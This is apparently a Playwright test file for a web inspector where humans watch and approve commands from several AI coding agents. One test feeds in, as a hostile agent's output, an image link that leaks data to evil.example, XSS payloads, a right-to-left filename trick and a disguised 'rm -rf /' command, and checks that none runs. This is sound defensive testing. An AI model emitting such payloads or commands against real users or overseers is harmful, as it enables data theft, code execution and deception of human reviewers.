// The page of the inspector in Chromium, over a morning with five agents: what it shows, what a human can do with the
// keyboard alone, and what a hostile agent cannot do. Run by `npm run test:inspector`.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { env, exit } from 'node:process';
import { chromium } from 'playwright-core';
import { startMorning } from '../../examples/inspector/morning.mjs';
import { connectManager } from '../../dist/esm/index.js';
import { inspect } from '../../dist/esm/gateway/index.js';
import { axeSource } from './axe.mjs';

const root = join(import.meta.dirname, '../..');
const images = join(root, 'docs/images');

const browser = await chromium.launch({
  executablePath: env['CHROMIUM'] ?? '/usr/bin/chromium',
  args: ['--no-sandbox'],
});

let failed = 0;
async function check(title, run) {
  const started = performance.now();
  try {
    await run();
    console.log(`ok      ${title}, ${((performance.now() - started) / 1_000).toFixed(1)} s`);
  } catch (error) {
    failed++;
    console.log(
      `FAILED  ${title}\n        ${String(error.stack ?? error).replaceAll('\n', '\n        ')}`,
    );
  }
}

/** A page in front of a fresh morning; nothing may go wrong in it. */
async function open({ readOnly = false, ...options }, run) {
  const morning = await startMorning(2);
  const stream = connectManager({ url: morning.server.url, reconnect: { base: 50 } });
  await stream.connect();
  const site = await inspect(stream, { readOnly });
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, ...options });
  const page = await context.newPage();
  const wrong = [];
  page.on('console', (message) => {
    if (message.type() === 'error' && !isExpected(message)) wrong.push(message.text());
  });
  page.on('pageerror', (error) => wrong.push(error.message));
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  try {
    await page.goto(site.url);
    await page.getByText('live', { exact: true }).waitFor();
    await run({ page, morning, stream, url: site.url, asked });
    assert.deepEqual(wrong, []);
  } finally {
    await context.close();
    await site.close();
    await stream.close();
    await morning.server.close();
  }
}

/** What a browser says of a connection that was cut. */
const isExpected = (message) => /WebSocket|Failed to load resource|net::ERR/.test(message.text());

const sizes = [
  { width: 1280, scheme: 'light' },
  { width: 1280, scheme: 'dark' },
  { width: 390, scheme: 'light' },
  { width: 390, scheme: 'dark' },
];
for (const { width, scheme } of sizes) {
  const options = { viewport: { width, height: 860 }, colorScheme: scheme };
  await check(`shows who needs whom, at ${width} px, ${scheme}, without a violation of axe`, () =>
    open(options, async ({ page, morning }) => {
      const turn = await morning.play();
      void morning.ask(turn);
      await page.getByText('rm -rf dist').first().waitFor();
      const threads = await page.locator('inspector-threads .title').allInnerTexts();
      assert.deepEqual(threads.slice(0, 2), ['build-fix', 'deploy']);
      assert.deepEqual([...threads].sort(), ['api-tests', 'build-fix', 'deploy', 'docs', 'lint']);
      await page.screenshot({ path: join(images, `inspector-${scheme}-${width}.png`) });
      await page.evaluate(axeSource);
      const { violations } = await page.evaluate(() => globalThis.axe.run());
      assert.deepEqual(
        violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`),
        [],
      );
    }),
  );
}

await check('a command is accepted with the keyboard alone, once, and never by Enter', () =>
  open({}, async ({ page, morning }) => {
    const turn = await morning.play();
    const answers = [];
    void morning.ask(turn).then((answer) => answers.push(answer));
    await page.getByText('rm -rf dist').first().waitFor();
    await page.keyboard.press('i');
    await page.locator('inspector-card .accept').focus();
    await page.keyboard.press('Enter');
    await page.waitForTimeout(300);
    assert.deepEqual(answers, []);
    await page.keyboard.press('i');
    await page.keyboard.press('a');
    await page.getByText('answered here').waitFor();
    assert.deepEqual(answers, [{ result: { decision: 'accept' } }]);
    await page.getByText('Nothing waits.').waitFor();
  }),
);

await check('the title carries the number that waits', () =>
  open({}, async ({ page, morning }) => {
    const turn = await morning.play();
    void morning.ask(turn);
    await page.getByText('rm -rf dist').first().waitFor();
    assert.equal(await page.title(), '(1) codex-rx inspector');
  }),
);

await check('questions are answered', () =>
  open({}, async ({ page, morning }) => {
    const turn = morning.server.startTurn(morning.threads.docs, 'Which one?');
    const answer = turn.request('item/tool/requestUserInput', {
      itemId: 'question-1',
      questions: [
        {
          id: 'style',
          header: 'Style',
          question: 'Which style?',
          options: [
            { label: 'Short', description: 'One page' },
            { label: 'Long', description: 'A book' },
          ],
        },
      ],
    });
    await page.getByLabel('Long').check();
    await page.locator('inspector-card .accept').click();
    assert.deepEqual(await answer, { result: { answers: { style: { answers: ['Long'] } } } });
  }),
);

await check(
  'what a hostile agent writes is text: no script, no image, no link that runs, no hidden control',
  () =>
    open({}, async ({ page, morning, url, asked }) => {
      const turn = morning.server.startTurn(morning.threads.build, 'Go.');
      const id = 'message-1';
      const text =
        '![pixel](http://evil.example/leak?q=1) [click](javascript:alert(1)) <img src=x onerror=alert(2)> ' +
        '<script>alert(3)</script> \u202egnp.exe\n';
      turn.notify('item/started', { item: { type: 'agentMessage', id, phase: null, text: '' } });
      turn.notify('item/agentMessage/delta', { itemId: id, delta: text });
      void morning.ask(turn, 'echo safe \u202e; rm -rf / #\u200b\u001b[2J');
      const dialogs = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await page.getByText('\\u202e; rm -rf / #\\u200b\\u001b[2J').first().waitFor();
      await page.getByText('alert(3)').first().waitFor();
      assert.equal(await page.locator('inspector-transcript a[href]').count(), 0);
      assert.equal(
        await page.locator('inspector-transcript img, inspector-transcript script').count(),
        0,
      );
      assert.deepEqual(dialogs, []);
      assert.deepEqual(
        asked.filter((one) => new URL(one).host !== new URL(url).host),
        [],
      );
    }),
);

await check('a cut is a gap, and what waits is still there and answered once', () =>
  open({}, async ({ page, morning }) => {
    const turn = await morning.play();
    const answers = [];
    void morning.ask(turn).then((answer) => answers.push(answer));
    await page.getByText('rm -rf dist').first().waitFor();
    for (const socket of morning.server.sockets) socket.terminate();
    await page.getByText('were missed').waitFor();
    await page.screenshot({ path: join(images, 'inspector-gap.png') });
    await page.getByText('rm -rf dist').first().waitFor();
    await page.locator('inspector-card .decline').click();
    await page.getByText('answered here').waitFor();
    assert.deepEqual(answers, [{ result: { decision: 'decline' } }]);
  }),
);

await check('a filter, a cursor and the envelope go together', () =>
  open({}, async ({ page, morning }) => {
    await morning.play();
    await page.keyboard.press('f');
    await page.keyboard.type('item/started');
    await page.locator('.event').first().waitFor();
    await page.waitForTimeout(300);
    const types = new Set(await page.locator('.event span:nth-child(2)').allInnerTexts());
    assert.deepEqual([...types], ['app_server.item.started']);
    await page.locator('cdk-virtual-scroll-viewport').focus();
    await page.keyboard.press('End');
    await page.locator('inspector-envelope h2', { hasText: 'app_server.item.started' }).waitFor();
    await page.locator('inspector-envelope pre', { hasText: '"method": "item/started"' }).waitFor();
  }),
);

await check('an export is a recording without its secrets', () =>
  open({}, async ({ page, morning }) => {
    const turn = morning.server.startTurn(morning.threads.build, 'Go.');
    turn.say('The token is ghp_0123456789abcdefghijABCDEFGHIJ012345.');
    await page.getByText('The token is').first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('e')]);
    const chunks = [];
    for await (const chunk of await download.createReadStream()) chunks.push(chunk);
    const lines = Buffer.concat(chunks)
      .toString()
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.equal(lines[0].recording, 'codex-rx');
    assert.ok(lines.some(({ frame }) => frame?.type === 'app_server.turn.started'));
    assert.ok(!JSON.stringify(lines).includes('ghp_0123456789'));
  }),
);

await check('20,000 events are drawn at most once a frame, and the text is whole', () =>
  open({}, async ({ page, morning }) => {
    const turn = morning.server.startTurn(morning.threads.build, 'Write.');
    const item = { type: 'agentMessage', id: 'long', phase: null };
    turn.notify('item/started', { item: { ...item, text: '' } });
    await page.getByText('Write.').waitFor();
    await page.evaluate(() => {
      globalThis.seen = { frames: 0, renders: 0 };
      const { document, MutationObserver, requestAnimationFrame } = globalThis;
      const frame = () => {
        globalThis.seen.frames++;
        requestAnimationFrame(frame);
      };
      requestAnimationFrame(frame);
      const count = document.querySelector('inspector-app header');
      new MutationObserver(() => globalThis.seen.renders++).observe(count, {
        subtree: true,
        characterData: true,
      });
    });
    for (let i = 0; i < 20_000; i++) {
      turn.notify('item/agentMessage/delta', {
        itemId: 'long',
        delta: i % 100 === 99 ? `${i}\n\n` : `${i} `,
      });
      if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 10));
    }
    await page.getByText('19999').waitFor({ timeout: 60_000 });
    const { frames, renders } = await page.evaluate(() => globalThis.seen);
    const text = await page.locator('inspector-item.agentMessage .markdown').innerText();
    assert.equal(
      text.replaceAll(/\s+/g, ' ').trim(),
      Array.from({ length: 20_000 }, (_, i) => i).join(' '),
    );
    console.log(`        ${renders} renders in ${frames} frames`);
    assert.ok(renders <= frames + 1, `${renders} renders in ${frames} frames`);
  }),
);

await browser.close();
exit(failed === 0 ? 0 : 1);
